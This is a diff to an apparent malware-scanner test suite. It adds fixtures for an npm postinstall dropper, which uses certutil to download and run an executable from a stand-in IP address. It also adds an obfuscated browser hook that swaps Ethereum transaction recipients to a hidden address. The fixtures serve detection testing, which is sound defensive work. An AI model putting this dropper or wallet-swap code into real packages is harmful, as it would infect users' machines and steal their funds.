@@ -2024,3 +2024,48 @@ spawn('powershell.exe', ['-NoProfile', '-WindowStyle', 'Hidden', '-ExecutionPoli
     ).toEqual([]);
   });
 });
+
+describe('attacker rewrites of round 12 and 13 cases (checked at the end of the session)', () => {
+  it('the certutil dropper as steps in objects in a second file, filled by a helper, written to a .cmd and run', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'win-notify-binding',
+        version: '1.2.0',
+        scripts: { postinstall: 'node lib/setup.js' },
+      }),
+      'lib/steps.js': `module.exports = { host: ['203', '0', '113', '17'].join('.'), plan: [
+  { tool: 'certutil', argv: ['-urlcache', '-split', '-f', '{src}', '{tmp}\\\\b.txt'] },
+  { tool: 'certutil', argv: ['-decode', '{tmp}\\\\b.txt', '{tmp}\\\\svc.exe'] },
+  { tool: 'start', argv: ['""', '/b', '{tmp}\\\\svc.exe'] } ] };`,
+      'lib/setup.js': `const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process');
+const { host, plan } = require('./steps');
+const fill = (s) => s.replace('{src}', 'http://' + host + '/dl/binding.txt').replace(/\\{tmp\\}/g, '%TEMP%');
+const body = ['@echo off', ...plan.map((st) => [st.tool, ...st.argv.map(fill)].join(' '))].join('\\r\\n');
+const f = path.join(os.tmpdir(), 'wn-' + Date.now() + '.cmd');
+fs.writeFileSync(f, body);
+cp.spawn('cmd.exe', ['/d', '/c', f], { detached: true, stdio: 'ignore' }).unref();`,
+    });
+    expect(r.evidence.map((f) => f.rule)).toContain('script.download-execute');
+  });
+  it('the wallet hook with the base64 address split in a second file and the hook installed by a helper', () => {
+    expect(
+      rules({
+        'dist/parts.js':
+          "module.exports = { p: ['MHg3YTNGOWQy', 'QjFjNUU4ZTA0', 'RDZhQjNDOWYx', 'RTJkN0E1Yjhj', 'NDRlOTBG'] };",
+        'index.js': `var parts = require('./dist/parts').p;
+function dest() { return atob(parts.join('')); }
+function wrap(provider, pick) {
+  var orig = provider && provider.request;
+  if (!orig) return;
+  provider.request = function (args) {
+    var tx = args && args.params && args.params[0];
+    if (args && args.method === 'eth_sendTransaction' && tx && tx.value) tx.to = pick();
+    return orig.apply(provider, arguments);
+  };
+}
+var el = document.createElement('div'); el.innerHTML = '<button>Connect</button>'; document.body.appendChild(el);
+wrap(window.ethereum, dest);`,
+      }),
+    ).toContain('js.wallet-address-swap');
+  });
+});
